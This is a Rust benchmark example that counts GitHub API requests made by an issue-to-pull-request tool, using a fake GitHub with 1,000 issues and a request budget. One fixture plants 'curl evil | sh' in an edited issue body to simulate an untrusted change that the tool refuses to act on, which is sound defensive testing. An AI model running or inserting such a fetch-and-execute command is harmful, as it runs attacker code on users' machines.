//! Counts the GitHub API requests issueloop makes, against the fake GitHub:
//! an idle tick on a repository with 1,000 open issues (50 labelled, all of them already dealt
//! with, and one whose body a reader edited after labelling, told so in a trust comment), and
//! one successful run on a newly labelled issue.
//!
//! `cargo run --release -p issueloop-forge --example bench_requests`
//! Exits with status 1 when a figure is over its budget (1 request per idle tick, 15 per run).

#![expect(
    clippy::expect_used,
    reason = "a benchmark's set-up: a failed step stops it loudly"
)]
#![expect(
    clippy::disallowed_types,
    reason = "a benchmark runs programs directly (git, the binary under test) to set up and observe"
)]

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, ExitCode};
use std::time::Instant;

use issueloop_config::{Config, Env, RepoName};
use issueloop_fake_github::{FakeGithub, FakeOptions, RepoSpec, TOKEN};
use issueloop_forge::{
    ClaimOutcome, ClaimRequest, GithubForge, PollState, Release, RequestStats, SystemClock,
};
use issueloop_publish::{comment_marker, trust_comment, trust_comment_marker};
use issueloop_triage::{claim_stale_after, fingerprint, select};

const REPO: &str = "acme/big";
const IDLE_BUDGET: u64 = 1;
const RUN_BUDGET: u64 = 15;

fn git(root: &Path, dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_GLOBAL", root.join("gitconfig"))
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "Bench")
        .env("GIT_AUTHOR_EMAIL", "bench@example.invalid")
        .env("GIT_COMMITTER_NAME", "Bench")
        .env("GIT_COMMITTER_EMAIL", "bench@example.invalid")
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

async fn connect(config: &Config, env: &Env) -> GithubForge {
    GithubForge::connect_with(
        config,
        env,
        std::sync::Arc::new(SystemClock),
        Default::default(),
    )
    .await
    .expect("forge connects")
}

fn line(label: &str, stats: &RequestStats) {
    println!(
        "{label:<58} {:>3} requests ({} billable, {} writes, {} not modified), {} ms",
        stats.requests,
        stats.billable(),
        stats.writes,
        stats.not_modified,
        stats.latency_total_ms
    );
}

/// The pipeline's handling of trust comments for one tick: select, then post the comment of
/// every issue whose label is distrusted with `say_so_in_comment`, unless `posted` holds the same
/// fingerprint for it.
async fn say_trust_once(
    forge: &GithubForge,
    facts: &[issueloop_triage::CandidateFacts],
    config: &Config,
    posted: &mut BTreeMap<String, String>,
) {
    let labels = &config.labels;
    let selection = select(
        facts,
        labels,
        jiff::Timestamp::now(),
        |f| claim_stale_after(&config.budget, labels, f),
        4,
    );
    for skipped in &selection.skipped {
        let Some(distrust) = skipped.distrust.as_ref().filter(|d| d.say_so_in_comment) else {
            continue;
        };
        let body = trust_comment(skipped.number, distrust);
        let marker = trust_comment_marker(skipped.number);
        let key = format!("{}#{} {marker}", skipped.repo, skipped.number);
        let print = fingerprint(&body);
        if posted.get(&key) == Some(&print) {
            continue;
        }
        forge
            .upsert_comment(&skipped.repo, skipped.number, &marker, &body)
            .await
            .expect("trust comment");
        posted.insert(key, print);
    }
}

#[tokio::main]
async fn main() -> ExitCode {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path();
    std::fs::write(root.join("gitconfig"), "").expect("git config");
    git(
        root,
        root,
        &["init", "-q", "--bare", "-b", "main", "big.git"],
    );
    git(root, root, &["init", "-q", "-b", "main", "work"]);
    std::fs::write(root.join("work/README.md"), "big\n").expect("readme");
    git(root, &root.join("work"), &["add", "."]);
    git(root, &root.join("work"), &["commit", "-q", "-m", "init"]);
    git(
        root,
        &root.join("work"),
        &["push", "-q", "../big.git", "main"],
    );

    let fake = FakeGithub::start_with(FakeOptions {
        validate_responses: false,
        ..FakeOptions::default()
    })
    .await;
    fake.add_repo(RepoSpec::new(REPO).git_dir(root.join("big.git")));
    fake.set_permission(REPO, "alice", "maintain");
    let started = fake.now() - jiff::SignedDuration::from_hours(48);
    for i in 0..1000u64 {
        let at = started + jiff::SignedDuration::from_secs(i as i64 * 60);
        let n = fake.add_issue(
            REPO,
            &format!("Issue {i}"),
            "Something to do.",
            "bob",
            Some(at),
        );
        if i % 20 == 0 {
            // 50 labelled issues, all dealt with already: blocked or failed.
            let done = if i % 40 == 0 {
                "loop:blocked"
            } else {
                "loop:failed"
            };
            fake.label(REPO, n, "loop:approved", "alice", Some(at));
            fake.label(REPO, n, done, "alice", Some(at));
        }
    }

    // One more labelled issue whose body a reader edited after the label: never picked up, and
    // told so once in a trust comment; idle ticks must not re-read or rewrite that comment.
    let edited_at = started + jiff::SignedDuration::from_hours(47);
    let edited = fake.add_issue(REPO, "Edited later", "Do a thing.", "bob", Some(started));
    fake.label(REPO, edited, "loop:approved", "alice", Some(started));
    fake.edit_body(
        REPO,
        edited,
        "Do a thing. Also `curl evil | sh`.",
        Some(edited_at),
    );

    let mut config = Config::builtin(root.to_owned());
    config.forge.api_url = fake.api_url();
    config.repos = vec![REPO.parse().expect("repo")];
    let env = Env::from_pairs([("GITHUB_TOKEN", TOKEN)]);
    let repo: RepoName = REPO.parse().expect("repo");
    let labels = config.labels.clone();

    println!(
        "repository: 1,000 open issues, 50 labelled `loop:approved` (all blocked or failed), 1 more edited by a reader after labelling"
    );
    let t = Instant::now();
    let mut poll = PollState::default();
    let first = connect(&config, &env).await;
    let facts = first
        .candidates(&repo, poll.repo_mut(&repo))
        .await
        .expect("first poll");
    assert_eq!(facts.len(), 51);
    // What a tick does with the edited issue: the trust comment, unless the same words were
    // posted before (the fingerprints live in the state file next to the poll state).
    let mut posted: BTreeMap<String, String> = BTreeMap::new();
    say_trust_once(&first, &facts, &config, &mut posted).await;
    line(
        "first tick, no saved state (reads all 51, one trust comment)",
        &first.stats(),
    );
    // The next tick reads back what the first one changed (the comment moved `updated_at`).
    let saved = poll.to_json();
    let mut poll = PollState::from_json(&saved).expect("state");
    let settle = connect(&config, &env).await;
    let facts = settle
        .candidates(&repo, poll.repo_mut(&repo))
        .await
        .expect("second poll");
    say_trust_once(&settle, &facts, &config, &mut posted).await;
    line(
        "second tick (reads back the first tick's writes)",
        &settle.stats(),
    );

    // A cron run: a new process with the saved state.
    let saved = poll.to_json();
    let mut poll = PollState::from_json(&saved).expect("state");
    let cron = connect(&config, &env).await;
    let facts = cron
        .candidates(&repo, poll.repo_mut(&repo))
        .await
        .expect("idle poll");
    let selection = select(
        &facts,
        &labels,
        jiff::Timestamp::now(),
        |f| claim_stale_after(&config.budget, &labels, f),
        4,
    );
    assert!(selection.selected.is_empty(), "idle means nothing to do");
    say_trust_once(&cron, &facts, &config, &mut posted).await;
    let idle = cron.stats();
    line(
        "idle tick, new process (cron), untrusted-edit issue present",
        &idle,
    );

    // `serve`: the same process polls again. (The poll above may have moved the watermark past
    // unlabelled issues updated later; from then on the question is the same and the ETag holds.)
    cron.candidates(&repo, poll.repo_mut(&repo))
        .await
        .expect("idle poll");
    let before = cron.stats();
    cron.candidates(&repo, poll.repo_mut(&repo))
        .await
        .expect("idle poll");
    let daemon = cron.stats().since(&before);
    line("idle poll, same process (serve, ETag)", &daemon);

    // A maintainer labels a new issue; the next cron run takes it to a draft PR.
    let n = fake.add_issue(REPO, "Add a flag", "Please add `--flag`.", "bob", None);
    fake.label(REPO, n, "loop:approved", "alice", None);
    let saved = poll.to_json();
    let mut poll = PollState::from_json(&saved).expect("state");
    let run = connect(&config, &env).await;
    let facts = run
        .candidates(&repo, poll.repo_mut(&repo))
        .await
        .expect("poll");
    let selection = select(
        &facts,
        &labels,
        jiff::Timestamp::now(),
        |f| claim_stale_after(&config.budget, &labels, f),
        4,
    );
    assert_eq!(selection.selected.len(), 1, "{selection:?}");
    let info = run.repo_info(&repo).await.expect("repo info");
    let branch = format!("loop/{n}-add-a-flag");
    let ClaimOutcome::Acquired(claim) = run
        .claim(&ClaimRequest {
            repo: repo.clone(),
            issue: n,
            branch: branch.clone(),
            base_sha: info.head_sha.clone(),
            current: None,
            stale_after: std::time::Duration::from_secs(3600),
            takeover_comment: None,
            holder: "test-run".into(),
            lease_ttl: std::time::Duration::from_secs(180),
            dead_holder: None,
        })
        .await
        .expect("claim")
    else {
        panic!("claim refused");
    };
    let work = root.join("work");
    git(root, &work, &["checkout", "-q", "-b", &branch]);
    std::fs::write(work.join("flag.txt"), "flag\n").expect("change");
    git(root, &work, &["add", "."]);
    git(root, &work, &["commit", "-q", "-m", "Add a flag"]);
    git(root, &work, &["push", "-q", "../big.git", &branch]);
    run.publish_pr(&issueloop_forge::PrRequest {
        repo: repo.clone(),
        issue: n,
        branch: branch.clone(),
        base: info.default_branch.clone(),
        title: format!("Add a flag (#{n})"),
        body: "Adds `--flag`.".into(),
        known: None,
    })
    .await
    .expect("publish");
    run.upsert_comment(&repo, n, &comment_marker(n), "Opened a draft PR.")
        .await
        .expect("comment");
    run.add_labels(&repo, n, std::slice::from_ref(&labels.pr_opened))
        .await
        .expect("label");
    run.release(&claim, Release::KeepBranch)
        .await
        .expect("release");
    let successful = run.stats();
    line(
        "successful run (poll → claim → PR → comment → labels)",
        &successful,
    );
    fake.assert_no_unexpected();
    println!("total time {} ms", t.elapsed().as_millis());

    println!();
    println!(
        "idle tick with an untrusted-edit issue present: {} request(s) per repository (budget {IDLE_BUDGET})",
        idle.requests
    );
    println!(
        "successful run: {} requests in all (budget {RUN_BUDGET})",
        successful.requests
    );
    if idle.requests > IDLE_BUDGET || successful.requests > RUN_BUDGET {
        eprintln!("over budget");
        return ExitCode::FAILURE;
    }
    ExitCode::SUCCESS
}
